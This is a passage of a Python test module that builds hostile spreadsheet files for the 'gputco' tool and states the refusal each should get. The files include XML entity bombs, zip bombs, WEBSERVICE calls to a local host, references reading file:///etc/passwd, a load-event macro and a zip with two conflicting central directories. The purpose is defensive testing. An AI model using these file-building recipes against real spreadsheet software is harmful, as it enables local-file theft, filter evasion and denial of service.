        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        z.writestr("content.xml", content)
    return path


#: files given to ``gputco open --convert-to`` under other names or formats
OPEN_SCREENED = {
    "renamed_xlsx": (renamed_xlsx, "WEBSERVICE (S!A2)"),
    "flat_xml_dtd": (flat_xml_dtd, "declares a DTD"),
    "ods_webservice": (ods_webservice, "WEBSERVICE (content.xml)"),
}


#: the resource bombs: (make, the command run on the file, its one-line refusal's fragment);
#: each must be refused with exit 2 within 60 s and 2 GiB (tests/test_hostile.py, a child process)
BOMBS = {
    "strings_bomb": (strings_bomb, ["recalc", "--check"], "budget max_strings"),
    "cells_bomb": (cells_bomb, ["recalc", "--check"], "budget max_cells"),
    "comments_bomb": (comments_bomb, ["recalc", "--check"], "budget max_total_bytes"),
    "comments_bomb_render": (comments_bomb, ["render", "--png", "{tmp}/png"], "budget max_total_bytes"),
    "comments_bomb_open": (
        comments_bomb,
        ["open", "--convert-to", "pdf", "--outdir", "{tmp}/out"],
        "budget max_total_bytes",
    ),
    "styles_bomb": (styles_bomb, ["render", "--png", "{tmp}/png"], "budget max_styles"),
    "names_bomb": (names_bomb, ["recalc", "--check", "--timeout", "20"], "budget max_name_size"),
    "deep_names": (deep_names, ["recalc", "--check"], "budget max_name_depth"),
    "product_bomb": (product_bomb, ["recalc", "--check"], "budget max_array_cells"),
    "deep_spec": (deep_spec, ["scenarios", "-o", "{tmp}/s.xlsx"], "budget max_spec_depth"),
}


@dataclass(frozen=True)
class Case:
    """One hostile file and what ``gputco recalc FILE --check`` must answer."""

    make: Callable[[Path], Path]
    exit_code: int
    message: str  #: a fragment of the one-line error, or of the report for exit 0/1


CORPUS: dict[str, Case] = {
    "billion_laughs": Case(billion_laughs, 2, "declares a DTD or entities; refused for safety"),
    "external_entity": Case(external_entity, 2, "declares a DTD or entities; refused for safety"),
    "zip_bomb": Case(zip_bomb, 2, "compression ratio above 1000 (zip bomb?)"),
    "far_cells": Case(far_cells, 2, "too large to recalculate in memory"),
    "whole_sheet_range": Case(whole_sheet_range, 2, "cells of sheet 'S' at once"),
    "absurd_dimension": Case(absurd_dimension, 1, "S!A2"),
    "long_formula": Case(long_formula, 2, "100,001 characters long (limit 8,192"),
    "deep_nesting": Case(deep_nesting, 2, "nested more than"),
    "deep_functions": Case(deep_functions, 2, "nested more than"),
    "long_chain": Case(long_chain, 1, "S!A1"),
    "circular": Case(circular, 2, "circular reference between 3 cells: S!A1, S!B1, S!C1"),
    "outside_calls": Case(outside_calls, 2, "unsupported functions or features"),
    "not_a_zip": Case(not_a_zip, 2, "is not an .xlsx file (not a zip package)"),
    "no_workbook": Case(no_workbook, 2, "has no workbook part"),
    "truncated": Case(truncated, 2, "is not an .xlsx file (not a zip package)"),
    "bad_shared_string": Case(bad_shared_string, 2, "shared string 99 does not exist"),
    "bad_number": Case(bad_number, 2, "is not a number"),
    "macro_workbook": Case(macro_workbook, 1, "S!A2"),
    "encrypted": Case(encrypted, 2, "password-protected"),
    "encrypted_member": Case(encrypted_member, 2, "encrypted"),
    "too_many_parts": Case(too_many_parts, 2, "parts (limit 10000)"),
    "malformed_xml": Case(malformed_xml, 2, "is not well-formed XML"),
    "missing_sheet_part": Case(missing_sheet_part, 2, "points to a missing part"),
    # the engine computes what it reads; LibreOffice is never given them (SCREENED)
    "dtd_after_4k": Case(dtd_after_4k, 2, "declares a DTD or entities; refused for safety"),
    "dtd_utf16_sheet": Case(dtd_utf16_sheet, 2, "declares a DTD or entities; refused for safety"),
    "dtd_utf16_content_types": Case(
        dtd_utf16_content_types, 2, "declares a DTD or entities; refused for safety"
    ),
    "cf_char_references": Case(cf_char_references, 0, "0 cells differ"),
    "dv_char_references": Case(dv_char_references, 0, "0 cells differ"),
    "comment_hides_cf": Case(comment_hides_cf, 0, "0 cells differ"),
    "dde_link_renamed": Case(dde_link_renamed, 0, "0 cells differ"),
    "vba_renamed": Case(vba_renamed, 0, "0 cells differ"),
    "web_query_renamed": Case(web_query_renamed, 0, "0 cells differ"),
    "case_duplicates": Case(case_duplicates, 2, "part names are case-insensitive"),
    "quoted_sheet_webservice": Case(quoted_sheet_webservice, 2, "unsupported functions or features"),
}


# --- measuring: each run in a child process of its own ------------------------------------------

_FORKED = r"""
import json, os, sys, time
import gputco.addin.cli as cli  # imported once: each run is a fork of this process
import gputco.addin.cmd_libreoffice, gputco.workbook.batch.run, gputco.workbook.recalc
import gputco.workbook.soffice.fallback, gputco.workbook.soffice.render  # what the doors import
out = []
for argv, err in json.loads(sys.argv[1]):
    t0 = time.perf_counter()
    pid = os.fork()
    if pid == 0:
        os.dup2(os.open(err, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), 2)
        os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
        try:
            code = cli.main(argv)
        except SystemExit as exit:
            code = exit.code if isinstance(exit.code, int) else 2
        sys.stdout.flush()
        sys.stderr.flush()
        os._exit(code)
    _, status, usage = os.wait4(pid, 0)
    out.append([os.waitstatus_to_exitcode(status), time.perf_counter() - t0, usage.ru_maxrss * 1024])
print(json.dumps(out))
"""


@dataclass(frozen=True)
class Run:
    """What one ``gputco`` run in a child process did: its exit code, stderr, wall-clock seconds
    and peak resident memory (bytes, the kernel's accounting of that child: os.wait4)."""

    code: int
    err: str
    seconds: float
    rss: int


def fresh(argv: list[str], cwd: Path, env: dict[str, str] | None = None) -> Run:
    """Run ``gputco ARGV`` in a fresh Python process (its start included in the time)."""
    import os
    import subprocess
    import sys
    import time

    t0 = time.perf_counter()
    proc = subprocess.Popen(
        [sys.executable, "-m", "gputco.addin.cli", *argv],
        cwd=cwd,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    err = proc.stderr.read().decode()
    _pid, status, usage = os.wait4(proc.pid, 0)
    return Run(os.waitstatus_to_exitcode(status), err, time.perf_counter() - t0, usage.ru_maxrss * 1024)


def measured(runs: list[list[str]], folder: Path, env: dict[str, str], cwd: Path) -> list[Run]:
    """Run ``gputco ARGV`` for each of ``runs``, each in a child process of its own (a fork of
    one Python that imported gputco once, so a run costs its own work, not Python's start)."""
    import json
    import subprocess
    import sys

    errs = [folder / f"stderr-{i}.txt" for i in range(len(runs))]
    proc = subprocess.run(
        [sys.executable, "-c", _FORKED, json.dumps([[a, str(e)] for a, e in zip(runs, errs, strict=True)])],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=60 * len(runs) + 60,
        check=True,
    )
    rows = json.loads(proc.stdout.strip().splitlines()[-1])
    return [Run(c, e.read_text(), s, r) for (c, s, r), e in zip(rows, errs, strict=True)]


def soffice_recorder(folder: Path) -> tuple[Path, Path]:
    """A program named soffice in ``folder``/recorder-bin that appends its arguments to the log
    (the second path) and fails: put the folder first on PATH to see whether soffice starts.

    The log is outside the file-system view bubblewrap gives LibreOffice (tests/test_sandbox.py
    tests that view), so the folder also holds a ``bwrap`` that cannot make one: gputco falls back
    to the network-only sandbox, in which the recorder can write its log. In-process tests also
    set ``sandbox._bwrap`` to None (it is cached per process)."""
    bin_dir, log = folder / "recorder-bin", folder / "soffice-starts.log"
    bin_dir.mkdir(exist_ok=True)
    script = bin_dir / "soffice"
    script.write_text(f'#!/bin/sh\necho "$@" >> {log}\nexit 1\n')
    script.chmod(0o755)
    fence = bin_dir / "bwrap"
    fence.write_text("#!/bin/sh\nexit 1\n")
    fence.chmod(0o755)
    return bin_dir, log


# --- round three (issue 43): files built, not checked in ----------------------------------------


def wide_csv(d: Path, columns: int = 100_000) -> Path:
    """A 1 MB CSV of one scenario with ``columns`` label columns (finding 7: quadratic in columns
    while columns were found by a scan of the names)."""
    path = d / "wide.csv"
    names = ["mfu", *(f"_c{i}" for i in range(columns))]
    path.write_text(",".join(names) + "\n" + ",".join(["0.5", *("1" * columns)]) + "\n")
    return path


def nested_parquet(d: Path, nan_inside: bool = False) -> Path:
    """A Parquet file whose label columns hold a list, a struct and a map (finding 9: batch to
    CSV stopped with "internal error"); with ``nan_inside``, a list holding NaN, which JSON text
    cannot hold."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    cols = {
        "mfu": [0.5, 0.4],
        "label": pa.array([[1, 2], [3]]),
        "_struct": pa.array([{"a": 1, "b": "=x"}, None]),
        "_map": pa.array([[("k", 1)], [("j", 2)]], pa.map_(pa.string(), pa.int64())),
    }
    if nan_inside:
        cols["_floats"] = pa.array([[1.0], [float("nan")]])
    path = d / ("nested_nan.parquet" if nan_inside else "nested.parquet")
    pq.write_table(pa.table(cols), path)
    return path


def big_spec(d: Path, size: int = 100_000_000) -> Path:
    """The example SPEC with ``size`` bytes of comment after it (finding 8: 85 s and 2.2 GiB in
    the TOML reader before any check)."""
    from gputco.workbook.scenarios.example import EXAMPLE

    path = d / "big.toml"
    with open(path, "w") as fh:
        fh.write(EXAMPLE + "\n# ")
        block = "x" * (1 << 20)
        for _ in range(size // len(block)):
            fh.write(block)
        fh.write("\n")
    return path


def hostile_arguments() -> dict[str, object]:
    """Python arguments each of which must be refused with gputco's error naming the argument
    (finding 10): RecursionError, OverflowError, MemoryError or a silent cast before."""
    import decimal

    import numpy as np

    deep: object = 0.5
    for _ in range(3000):
        deep = [deep]
    return {
        "nested 3,000 deep": deep,
        "object array holding 10**400": np.array([0.5, 10**400], dtype=object),
        "10**400": 10**400,
        "range(10**12)": range(10**12),
        "complex": 1 + 2j,
        "numpy complex": np.complex128(1),
        "complex array": np.array([1 + 2j]),
        "text array": np.array(["0.5"]),
        "date array": np.array(["2020-01-01"], dtype="datetime64[D]"),
        "Decimal 1E+400": decimal.Decimal("1E+400"),
        "generator": (x for x in [0.5]),
    }


# escapes: what LibreOffice would read that the screen did not see (findings 2 to 5)

_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _ods(d: Path, name: str, table_body: str, *, head: str = "", extra: dict[str, str] | None = None) -> Path:
    """An OpenDocument spreadsheet: one table holding ``table_body`` (rows, or elements that go
    before them), ``head`` before the body (scripts, event listeners), ``extra`` parts."""
    path = d / name
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} office:version="1.2">'
        f'{head}<office:body><office:spreadsheet><table:table table:name="S">{table_body}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        z.writestr("content.xml", content)
        for member, data in (extra or {}).items():
            z.writestr(member, data)
    return path


def _ods_cell(formula: str) -> str:
    return f'<table:table-row><table:table-cell table:formula="{escape(formula, {chr(34): "&quot;"})}"/></table:table-row>'


def ods_namespaced_webservice(d: Path) -> Path:
    """Finding 4: WEBSERVICE as LibreOffice writes Excel's function in OpenDocument."""
    return _ods(d, "ns_web.ods", _ods_cell('of:=COM.MICROSOFT.WEBSERVICE("http://127.0.0.1:9/")'))


def ods_namespaced_filterxml(d: Path) -> Path:
    """Finding 4: FILTERXML under its OpenDocument namespace, in lower case."""
    return _ods(d, "ns_filterxml.ods", _ods_cell('of:=com.microsoft.filterxml("<a/>";"//a")'))


def ods_other_file(d: Path) -> Path:
    """Finding 5: a reference into a local file."""
    return _ods(d, "other_file.ods", _ods_cell("of:=['file:///etc/passwd'#$Sheet1.A1]"))


def ods_linked_sheet(d: Path) -> Path:
    """Finding 5: a sheet linked to a local file (table:table-source)."""
    source = '<table:table-source xlink:type="simple" xlink:href="file:///etc/hosts" table:mode="copy-all"/>'
    return _ods(d, "linked_sheet.ods", source + _ods_cell("of:=1"))


def ods_web_query(d: Path) -> Path:
    """Finding 5: a web query (table:cell-range-source) into a cell range."""
    body = (
        '<table:table-row><table:table-cell><table:cell-range-source table:name="q" '
        'xlink:type="simple" xlink:href="http://127.0.0.1:9/q" table:filter-name="calc_HTML_WebQuery" '
        'table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell></table:table-row>'
    )
    return _ods(d, "web_query.ods", body)


def ods_event_macro(d: Path) -> Path:
    """Finding 5: a Basic module bound to the document's load event."""
    head = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
        'language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
    )
    module = '<?xml version="1.0"?><script:module script:name="Module1">Sub Main\nEnd Sub</script:module>'
    return _ods(
        d, "event_macro.ods", _ods_cell("of:=1"), head=head, extra={"Basic/Standard/Module1.xml": module}
    )


def ods_linked_image(d: Path) -> Path:
    """Finding 5: an image linked to a local file (embedded into the PDF LibreOffice wrote)."""
    body = (
        '<table:table-row><table:table-cell><draw:frame draw:name="i"><draw:image xlink:type="simple" '
        'xlink:href="file:///usr/share/pixmaps/debian-logo.png"/></draw:frame></table:table-cell></table:table-row>'
    )
    return _ods(d, "linked_image.ods", body)


def spreadsheetml_formula_attribute(d: Path) -> Path:
    """Finding 3: SpreadsheetML 2003 writes ss:Formula with a capital F."""
    path = d / "ss2003.xml"
    path.write_text(
        '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table><Row>'
        '<Cell ss:Formula="=FILTERXML(&quot;&lt;a/&gt;&quot;,&quot;//a&quot;)"><Data ss:Type="String"/></Cell>'
        "</Row></Table></Worksheet></Workbook>"
    )
    return path


def blank_headed_sheet(d: Path) -> Path:
    """Finding 2: the worksheet under a name without .xml, no content-type override for it, and
    400 blanks before its XML; the workbook's relationship points to it."""
    path = d / "blank_head.xlsx"
    body = " " * 400 + sheet(cell("A1", f='WEBSERVICE("http://127.0.0.1:9/")'))[len(XML_DECL) :]
    package(path, "", drop=("xl/worksheets/sheet1.xml",), extra={"xl/worksheets/sheet1": body})
    data = zipfile.ZipFile(path).read("xl/_rels/workbook.xml.rels").decode().replace("sheet1.xml", "sheet1")
    ct = zipfile.ZipFile(path).read("[Content_Types].xml").decode()
    ct = ct.replace(
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
        "",
    )
    members = {n: zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()}
    members["xl/_rels/workbook.xml.rels"], members["[Content_Types].xml"] = data.encode(), ct.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in members.items():
            z.writestr(n, b)
    return path


#: round three's escapes: (builder, what the one line names); LibreOffice is never started
ESCAPES = {
    "blank_headed_sheet": (blank_headed_sheet, "WEBSERVICE"),
    "spreadsheetml_formula_attribute": (spreadsheetml_formula_attribute, "FILTERXML"),
    "ods_namespaced_webservice": (ods_namespaced_webservice, "WEBSERVICE (content.xml)"),
    "ods_namespaced_filterxml": (ods_namespaced_filterxml, "FILTERXML (content.xml)"),
    "ods_other_file": (ods_other_file, "reference to another workbook (content.xml)"),
    "ods_linked_sheet": (ods_linked_sheet, "linked sheet"),
    "ods_web_query": (ods_web_query, "web query"),
    "ods_event_macro": (ods_event_macro, "macro"),
    "ods_linked_image": (ods_linked_image, "link to a file or URL outside the package"),
}


def two_directories(d: Path) -> Path:
    """Finding 1: one file, two central directories. The ZIP64 end record (where Python's
    zipfile looks first) lists a clean sheet; the classic end record (LibreOffice's) lists a
    sheet calling FILTERXML. Both sets of local headers are in the file."""
    import io
    import struct
    import warnings

    clean, evil = d / "clean.xlsx", d / "evil.xlsx"
    package(clean, sheet(cell("A1", 2)))
    package(evil, sheet(cell("A1", f='FILTERXML("<a>1</a>","//a")')))
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the same names twice, on purpose
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for src in (clean, evil):
                with zipfile.ZipFile(src) as s:
                    for name in s.namelist():
                        z.writestr(name, s.read(name))
    data = buf.getvalue()
    n_clean = len(zipfile.ZipFile(clean).namelist())
    eocd = data.rfind(b"PK\x05\x06")
    _sig, _a, _b, _c, n, _size, cd_offset, _k = struct.unpack_from("<4s4H2LH", data, eocd)
    entries, at = [], cd_offset
    for _ in range(n):  # the central directory's entries, as written
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, at + 28)
        end = at + 46 + name_len + extra_len + comment_len
        entries.append(data[at:end])
        at = end
    cd_clean, cd_evil = b"".join(entries[:n_clean]), b"".join(entries[n_clean:])
    body = data[:cd_offset]
    evil_at = len(body)
    clean_at = evil_at + len(cd_evil)
    z64_at = clean_at + len(cd_clean)
    n_evil = n - n_clean
    z64 = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, n_clean, n_clean, len(cd_clean), clean_at
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, z64_at, 1)
    classic = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, n_evil, n_evil, len(cd_evil), evil_at, 0)
    path = d / "two_directories.xlsx"
    path.write_bytes(body + cd_evil + cd_clean + z64 + locator + classic)
    clean.unlink()
    evil.unlink()
    return path


def local_header_renamed(d: Path) -> Path:
    """A part whose local header names another part than the central directory does."""
    path = package(d / "local_renamed.xlsx", sheet(cell("A1", 2)))
    data = path.read_bytes()
    target = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml").header_offset + 30  # its name
    assert data[target : target + 24] == b"xl/worksheets/sheet1.xml"
    path.write_bytes(data[:target] + b"xl/worksheets/sheet9.xml" + data[target + 24 :])
    return path


#: stored numbers Python's float() reads and the file format's grammar (xsd:double) does not
#: (finding 11): each refused by recalc, one line naming the cell
BAD_STORED_NUMBERS = ("1_000", "nan", "-Infinity", "1e309", "0x10", "١")


def stored_number(d: Path, text: str) -> Path:
    return package(d / "stored.xlsx", sheet(cell("A1", text), cell("A2", 0, f="A1*2")))


def far_named_input(d: Path) -> Path:
    """Finding 6: 2 KB, gputco's marker, a named input at row 1,048,576 and a 16,384-column
    dimension (recalc's input check walked every row whole through openpyxl: 24 minutes)."""
    custom = (
        XML_DECL
        + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property '
        'fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="gputco">'
        "<vt:lpwstr>finance workbook, gputco 0.1.0</vt:lpwstr></property></Properties>"
    )
    path = package(
        d / "far_input.xlsx",
        sheet(cell("A1", 2, f="1+1"), cell("A1048576", 13), before='<dimension ref="A1:XFD1048576"/>'),
        names={"inp_cost_of_capital": "S!$A$1048576"},
        extra={"docProps/custom.xml": custom},
    )
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    members["_rels/.rels"] = members["_rels/.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId9" Type="{REL}/custom-properties" Target="docProps/custom.xml"/></Relationships>'.encode(),
    )
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/docProps/custom.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/></Types>',
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path
